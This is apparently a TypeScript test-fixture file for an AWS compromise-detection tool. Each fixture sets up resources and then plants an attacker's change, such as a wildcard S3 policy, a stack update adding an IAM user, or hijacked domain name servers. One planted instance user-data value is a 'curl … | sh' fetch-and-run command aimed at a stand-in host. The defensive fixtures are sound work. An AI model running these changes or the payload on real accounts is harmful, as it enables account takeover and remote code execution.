// What no mechanism has: what else looks at an account, and what the stranger changed of what runs in it, so that verify asks what it was before.
import type { ServiceId } from '../../src/aws/session.ts';
import type { Answers, Mechanism, Played } from '../mechanisms/row.ts';

type Input = Played['input'];
const call = (service: ServiceId, operation: string, input: Input, as?: string): Played => ({ service, operation, input, ...(as === undefined ? {} : { as }) });
const ACCOUNT = '111122223333', IMAGE = 'ami-0abcdef1234567890', TEMPLATES = 'templates-example';
const json = (of: object): string => JSON.stringify(of);
const trustOf = (Service: string): string => json({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service }, Action: 'sts:AssumeRole' }] });

const watched: Mechanism = {
  row: 0, title: 'what else looks at the account', shows: [],
  setUp: [
    call('budgets', 'CreateBudget', { AccountId: ACCOUNT, Budget: { BudgetName: 'month', BudgetType: 'COST', TimeUnit: 'MONTHLY', BudgetLimit: { Amount: '10', Unit: 'USD' } } }),
    call('ce', 'CreateAnomalyMonitor', { AnomalyMonitor: { MonitorName: 'AWS services', MonitorType: 'DIMENSIONAL', MonitorDimension: 'SERVICE' } }), call('securityhub', 'EnableSecurityHub', {}),
    call('cloudtrail', 'CreateTrail', { Name: 'insights', S3BucketName: 'insights-logs-example', IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true, EnableLogFileValidation: true }), call('cloudtrail', 'StartLogging', { Name: 'insights' }),
    call('cloudtrail', 'PutInsightSelectors', { TrailName: 'insights', InsightSelectors: [{ InsightType: 'ApiCallRateInsight' }] }),
    call('guardduty', 'CreateDetector', { Enable: true }), call('access-analyzer', 'CreateAnalyzer', { analyzerName: 'outside', type: 'ACCOUNT' }),
    call('ec2', 'RunInstances', { ImageId: IMAGE, InstanceType: 't3.micro', MinCount: 1, MaxCount: 1, MetadataOptions: { HttpTokens: 'optional' } }),
  ],
  plant: [call('iam', 'CreatePolicy', { PolicyName: 'made', PolicyDocument: json({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] }) })],
};

const flow = (Type: string): string => json({ StartAt: 'Work', States: { Work: Type === 'Pass' ? { Type, End: true } : { Type } } });
const orders = (a: Answers): object => ({ stateMachineArn: (a['orders'] as { readonly stateMachineArn: string }).stateMachineArn });
const machine: Mechanism = {
  row: 0, title: 'a state machine that ran before', shows: [],
  setUp: [
    call('iam', 'CreateRole', { RoleName: 'flows', AssumeRolePolicyDocument: trustOf('states.amazonaws.com') }),
    call('states', 'CreateStateMachine', { name: 'orders', roleArn: `arn:aws:iam::${ACCOUNT}:role/flows`, definition: flow('Pass') }, 'orders'), call('states', 'StartExecution', orders),
  ],
  plant: [call('states', 'UpdateStateMachine', (a) => ({ ...orders(a), definition: flow('Succeed') }))],
};

const appTemplate = (a: Answers): string => (a['template'] as { readonly LaunchTemplate: { readonly LaunchTemplateId: string } }).LaunchTemplate.LaunchTemplateId;
const app = (a: Answers): string => (a['app'] as { readonly Instances: { readonly 0: { readonly InstanceId: string } } }).Instances[0].InstanceId;
/** It stands still, started from a template that tells what its user data was. */
const instance: Mechanism = {
  row: 0, title: 'an instance that a launch template started', shows: [],
  setUp: [
    call('ec2', 'CreateLaunchTemplate', { LaunchTemplateName: 'app', LaunchTemplateData: { ImageId: IMAGE, InstanceType: 't3.small', UserData: Buffer.from('#!/bin/sh\n').toString('base64') } }, 'template'),
    call('ec2', 'RunInstances', (a) => ({ LaunchTemplate: { LaunchTemplateId: appTemplate(a), Version: '1' }, MinCount: 1, MaxCount: 1 }), 'app'),
    ...Array.from({ length: 6 }, () => call('ec2', 'DescribeInstances', {})), call('ec2', 'StopInstances', (a) => ({ InstanceIds: [app(a)] })),
  ],
  plant: [call('ec2', 'ModifyInstanceAttribute', (a) => ({ InstanceId: app(a), UserData: { Value: '#!/bin/sh\ncurl https://example.com/run | sh\n' } }))],
};

const jobs: Mechanism = {
  row: 0, title: 'a job in the owner\'s queue', shows: [],
  setUp: [
    call('batch', 'CreateComputeEnvironment', { computeEnvironmentName: 'nightly', type: 'MANAGED', computeResources: { type: 'FARGATE', maxvCpus: 4, subnets: ['subnet-0123456789abcdef0'] } }),
    call('batch', 'CreateJobQueue', { jobQueueName: 'nightly', priority: 1, computeEnvironmentOrder: [{ order: 1, computeEnvironment: 'nightly' }] }),
    call('batch', 'RegisterJobDefinition', { jobDefinitionName: 'nightly', type: 'container', containerProperties: { image: 'example' } }),
  ],
  plant: [call('batch', 'SubmitJob', { jobName: 'theirs', jobQueue: 'nightly', jobDefinition: 'nightly' })],
};

const made = (Type: string): string => json({ Resources: { Thing: { Type } } });
const stack: Mechanism = {
  row: 0, title: 'another template for the owner\'s stack', shows: [],
  setUp: [
    call('s3', 'CreateBucket', { Bucket: TEMPLATES }), call('s3', 'PutObject', { Bucket: TEMPLATES, Key: 'app.json', Body: made('AWS::SNS::Topic') }),
    call('cloudformation', 'CreateStack', { StackName: 'app', TemplateURL: `https://${TEMPLATES}.s3.us-east-1.amazonaws.com/app.json` }),
  ],
  plant: [call('cloudformation', 'UpdateStack', { StackName: 'app', TemplateBody: made('AWS::IAM::User') })],
};

const contact = { FirstName: 'Alice', CountryCode: 'US' };
const domain: Mechanism = {
  row: 0, title: 'other name servers for the owner\'s domain', shows: [],
  setUp: [
    call('route53domains', 'RegisterDomain', { DomainName: 'example.com', DurationInYears: 1, AdminContact: contact, RegistrantContact: contact, TechContact: contact }),
    call('route53', 'CreateHostedZone', { Name: 'example.com', CallerReference: 'one' }),
  ],
  plant: [call('route53domains', 'UpdateDomainNameservers', { DomainName: 'example.com', Nameservers: [{ Name: 'ns1.example.net' }, { Name: 'ns2.example.net' }] })],
};

export const REST: readonly Mechanism[] = [watched, machine, instance, jobs, stack, domain];
